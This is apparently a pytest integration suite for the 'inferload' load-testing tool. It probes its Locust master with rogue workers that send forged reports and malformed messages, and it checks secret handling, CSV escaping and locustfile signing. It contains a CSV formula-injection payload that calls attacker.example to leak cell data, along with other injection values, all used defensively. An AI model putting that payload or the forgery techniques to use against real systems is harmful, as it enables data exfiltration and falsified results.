"""A Locust master's port, probed the way anyone who reaches it could: a real master on loopback
(`inferload run --remote-workers`), one real worker with the run key (`inferload worker`), and
rogue clients that say they are workers. A peer without the run key gets nothing processed (the
port speaks CURVE with keys derived from the run key: no ack, no spawn message, its malformed
heartbeat and forged Locust statistics never reach Locust, and the run ends at its duration with
exit 0). A peer that holds the key is trusted, yet: the spawn message carries no secret; forged
reports never reach summary.json or requests.csv; text cells never run as spreadsheet formulas; a
malformed message is dropped without ending the listener; Locust's own statistics, which it can
forge, never change the exit code. A worker runs only a locustfile signed with its key, and needs
a key to start at all.
"""

from __future__ import annotations

import csv
import json
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from inferload.local.reference_server import ReferenceServerProcess
from inferload.measure.report_auth import ReportSealer
from inferload.measure.run_record import RunRecord
from inferload.paths import LOCUSTFILE
from inferload.results.tail import nearest_rank
from inferload.run.run_key import sign_locustfile
from tests.support.locust_runner import python_env
from tests.support.ports import free_port
from tests.support.reference_server import reference_server, reference_target
from tests.support.rogue_worker import EMPTY_LOCUST_STATS, FakeMaster, RogueWorker
from tests.support.scenario_factory import write_scenario
from tests.support.system_tools import REPO

RUN_KEY = "integration-test-run-key-0123456789"
WRONG_KEY = b"not-the-run-key-but-long-enough"
SECRETS = {"INFLUX_TOKEN": "influx-token-secret-4711", "INFLUX_PASSWORD": "influx-password-secret-4712"}
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1)'


def environment(**variables: str) -> dict[str, str]:
    env = python_env()
    env.pop("INFERLOAD_RUN_KEY", None)
    env.update(variables)
    return env


def inferload(*args: str) -> list[str]:
    return [sys.executable, "-m", "inferload.cli", *args]


@pytest.fixture(scope="module")
def server() -> Iterator[ReferenceServerProcess]:
    """The server the runs send to (each call held 2 ms in one of 8 slots): the master's port is the subject."""
    with reference_server(delay={"law": "fixed", "ms": 2.0}, concurrency=8) as running:
        yield running


@pytest.fixture
def scenario(server, tmp_path) -> Path:
    target = reference_target("t", "triton-grpc", server.grpc_address, timeout="5s")
    data = {"name": "security", "duration": "6s", "warmup": "0s", "targets": [target], "shape": {"kind": "steady", "users": 2}}
    return write_scenario(tmp_path, data)


def forged_latency_wire(target: str, latency_ms: float, count: int) -> dict:
    """What a worker's report would hold after `count` requests of `latency_ms` each."""
    record = RunRecord(window_s=1.0, warmup_s=0.0, targets=(target,))
    now = time.time()
    for _ in range(count):
        record.record(target, latency_ms, False, now)
    return record.drain_to_wire()


def forged_failures() -> dict:
    """Locust's own statistics of a report with 100 failed requests (what made a passing run exit 1)."""
    total = {**EMPTY_LOCUST_STATS["stats_total"], "num_requests": 100, "num_failures": 100}
    errors = {"x": {"name": "t", "method": "gRPC", "error": "forged", "occurrences": 100}}
    return {**EMPTY_LOCUST_STATS, "stats_total": total, "errors": errors}


def start_master(scenario: Path, tmp_path: Path, port: int, remote_workers: int, log: Path) -> subprocess.Popen[bytes]:
    command = inferload(
        "run", str(scenario), "--headless", "--remote-workers", str(remote_workers), "--master-port", str(port),
        "--requests-csv", "--worker-wait", "60", "--out", str(tmp_path / "results"), "--", "--only-summary",
    )  # fmt: skip
    with log.open("wb") as output:
        return subprocess.Popen(
            command, cwd=REPO, env=environment(INFERLOAD_RUN_KEY=RUN_KEY, **SECRETS), stdout=output, stderr=subprocess.STDOUT
        )


def start_worker(port: int, tmp_path: Path) -> subprocess.Popen[str]:
    return subprocess.Popen(
        inferload("worker", "--master-host", "127.0.0.1", "--master-port", str(port)),
        cwd=tmp_path,
        env=environment(INFERLOAD_RUN_KEY=RUN_KEY),
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )


def test_a_peer_without_the_run_key_gets_nothing_processed_and_cannot_end_or_fail_the_run(scenario, tmp_path):
    port, log = free_port(), tmp_path / "master.log"
    master = start_master(scenario, tmp_path, port, 1, log)
    anyone = RogueWorker("127.0.0.1", port)  # no key: plain ZeroMQ, as Locust's own worker
    half = RogueWorker("127.0.0.1", port, RUN_KEY, master_key_only=True)  # the master's public key, not the workers'
    worker = None
    try:
        for rogue in (anyone, half):
            rogue.say_ready()
            rogue.send("heartbeat", None)  # malformed: ended Locust's listener before
            rogue.send_report(forged_failures())  # Locust's statistics: made a passing run exit 1 before
            rogue.send("exception", {"msg": "forged", "traceback": "forged"})
        worker = start_worker(port, tmp_path)
        deadline = time.monotonic() + 120
        while master.poll() is None and time.monotonic() < deadline:
            for rogue in (anyone, half):
                rogue.pump(0.25)
                rogue.send("heartbeat", None)
        master.wait(timeout=30)
        worker_output = worker.communicate(timeout=30)[0]
    finally:
        for rogue in (anyone, half):
            rogue.close()
        for process in (master, worker):
            if process is not None and process.poll() is None:
                process.kill()
                process.wait()
    output = log.read_text()
    assert master.returncode == 0, output + (worker_output or "")
    assert anyone.received == [] and half.received == []  # not even an ack: nothing it sent was processed
    assert "refused a connection from" in output  # the half-keyed one, by the ZAP handler
    summary = json.loads((tmp_path / "results" / "summary.json").read_text())
    assert summary["workers"] == 1 and not summary.get("workers_lost"), summary  # the real worker ran to the end
    assert summary["interrupted"] is False and summary["duration_s"] >= 5.0, summary  # 6 s scenario, not cut short
    assert summary["targets"]["t"]["failures"] == 0 and summary["targets"]["t"]["requests"] > 0
    assert "Traceback" not in output


def test_a_rogue_client_gets_no_secret_and_its_forged_reports_never_reach_the_results(scenario, tmp_path):
    port, results, log = free_port(), tmp_path / "results", tmp_path / "master.log"
    master = start_master(scenario, tmp_path, port, 2, log)
    rogue = RogueWorker("127.0.0.1", port, RUN_KEY)  # it holds the key: a trusted peer gone bad
    worker = None
    try:
        rogue.say_ready()
        rogue.wait_for("ack", 60)
        worker = start_worker(port, tmp_path)
        spawn = rogue.wait_for("spawn", 90)
        rogue.send("heartbeat", {"state": "running"})  # malformed (no CPU figure): dropped, the listener lives on
        rogue.send_report(forged_failures())  # Locust's statistics: not what the exit code is made of
        rogue.send("exception", {"msg": "forged", "traceback": "forged"})

        # forged figures: 0.001 ms latencies, unsigned or signed with the wrong key, and formula rows
        fake_rows = [(time.time(), "t", 0.001, "ok")] * 500
        rogue.send_report({"inferload_latency": forged_latency_wire("t", 0.001, 5000), "inferload_requests": fake_rows})
        wrong = {kind: ReportSealer(WRONG_KEY, kind) for kind in ("inferload_latency", "inferload_requests")}
        for _ in range(3):
            rogue.send_report(
                {
                    "inferload_latency": wrong["inferload_latency"].seal(rogue.client_id, forged_latency_wire("t", 0.001, 5000)),
                    "inferload_requests": wrong["inferload_requests"].seal(rogue.client_id, fake_rows),
                }
            )
        # a client that does hold the key is trusted with its figures, but its text still cannot become a formula
        keyed_wire = forged_latency_wire("-cmd", 1.0, 3)
        keyed_wire["steady"] = keyed_wire["warmup"] = {}
        rogue.send_report(
            {
                "inferload_latency": ReportSealer(RUN_KEY.encode(), "inferload_latency").seal(rogue.client_id, keyed_wire),
                "inferload_requests": ReportSealer(RUN_KEY.encode(), "inferload_requests").seal(
                    rogue.client_id, [(time.time(), FORMULA, 1.0, "@SUM(A1)")]
                ),
            }
        )
        deadline = time.monotonic() + 90
        while master.poll() is None and time.monotonic() < deadline:
            rogue.pump(0.5)
        master.wait(timeout=30)
        worker_output = worker.communicate(timeout=30)[0]
    finally:
        rogue.close()
        for process in (master, worker):
            if process is not None and process.poll() is None:
                process.kill()
                process.wait()
    output = log.read_text()
    assert master.returncode == 0, output + (worker_output or "")  # summary.json passed: Locust's forged failures do not count
    assert output.count(f"dropped a malformed message from worker '{rogue.client_id}'") == 1, output

    # (a) the spawn message (the master's parsed options) holds no secret
    shipped = repr(spawn.data)
    assert "parsed_options" in spawn.data and "influx_token" in spawn.data["parsed_options"]
    for secret in (*SECRETS.values(), RUN_KEY):
        assert secret not in shipped
        assert secret not in output

    # (b) forged reports were refused, logged once per worker id, and left out of summary.json and requests.csv
    assert output.count(f"refused a report (inferload_latency) from worker '{rogue.client_id}'") == 1, output
    assert output.count(f"refused a report (inferload_requests) from worker '{rogue.client_id}'") == 1, output
    summary = json.loads((results / "summary.json").read_text())
    assert summary["rejected_reports"] == 8  # 4 forged latency reports and 4 forged row batches
    target = summary["targets"]["t"]
    rows = list(csv.DictReader((results / "requests.csv").open()))
    real = [row for row in rows if row["target"] == "t"]
    assert real and all(row["worker"] != rogue.client_id for row in real)
    ok = [float(row["latency_ms"]) for row in real if row["outcome"] == "ok"]
    assert min(ok) > 0.01  # no 0.001 ms row got in
    assert target["requests"] == len(real)
    for name, q in (("p50", 50), ("p90", 90), ("p99", 99)):
        assert target["latency_ms"][name] == pytest.approx(nearest_rank(sorted(ok), q), rel=0.01), name

    # (c) text cells that a spreadsheet would run as formulas start with a quote
    keyed = [row for row in rows if row["worker"] == rogue.client_id]
    assert [(row["target"], row["outcome"]) for row in keyed] == [("'" + FORMULA, "'@SUM(A1)")]
    windows = list(csv.DictReader((results / "windows.csv").open()))
    assert {row["target"] for row in windows} == {"t", "'-cmd"}
    assert not any(cell.startswith(("=", "+", "@")) for row in rows + windows for cell in row.values() if cell)


def test_a_worker_without_a_run_key_does_not_start():
    done = subprocess.run(
        inferload("worker", "--master-host", "127.0.0.1", "--master-port", str(free_port())),
        cwd=REPO,
        env=environment(),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2, done.stdout + done.stderr
    assert "inferload worker: a worker needs a run key: set INFERLOAD_RUN_KEY" in done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize("signed_with", [None, WRONG_KEY], ids=["unsigned", "another-key"])
def test_a_worker_runs_no_locustfile_that_is_not_signed_with_its_key(tmp_path, signed_with):
    marker = tmp_path / "pwned"
    code = f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran')\n"
    fake = FakeMaster(code if signed_with is None else sign_locustfile(code, signed_with), RUN_KEY)  # a master of this key
    try:
        worker = subprocess.Popen(
            inferload("worker", "--master-host", "127.0.0.1", "--master-port", str(fake.port)),
            cwd=tmp_path,
            env=environment(INFERLOAD_RUN_KEY=RUN_KEY),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        fake.serve(60, until=lambda: worker.poll() is not None)
        stdout, stderr = worker.communicate(timeout=30)
    finally:
        fake.close()
    assert fake.served >= 1
    assert worker.returncode == 2, stdout + stderr
    assert f"refusing to run the locustfile the master at 127.0.0.1:{fake.port} served" in stderr
    assert not marker.exists()


def test_remote_workers_without_a_run_key_are_refused_before_anything_starts(scenario, tmp_path):
    done = subprocess.run(
        inferload("run", str(scenario), "--headless", "--remote-workers", "1", "--out", str(tmp_path / "results")),
        cwd=REPO,
        env=environment(),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2, done.stdout + done.stderr
    assert "--remote-workers needs a run key: set INFERLOAD_RUN_KEY" in done.stderr
    assert not (tmp_path / "results" / "locustfile.py").exists()  # no master was given anything to serve


def test_a_plain_locust_master_without_a_run_key_does_not_run(scenario, tmp_path):
    done = subprocess.run(
        [sys.executable, "-m", "locust", "-f", str(LOCUSTFILE), "--scenario", str(scenario), "--master", "--headless",
         "--master-bind-port", str(free_port()), "--results-dir", str(tmp_path / "results")],
        cwd=REPO,
        env=environment(),
        capture_output=True,
        text=True,
        timeout=60,
    )  # fmt: skip
    assert done.returncode != 0, done.stdout + done.stderr
    assert "needs a run key: set INFERLOAD_RUN_KEY" in done.stderr
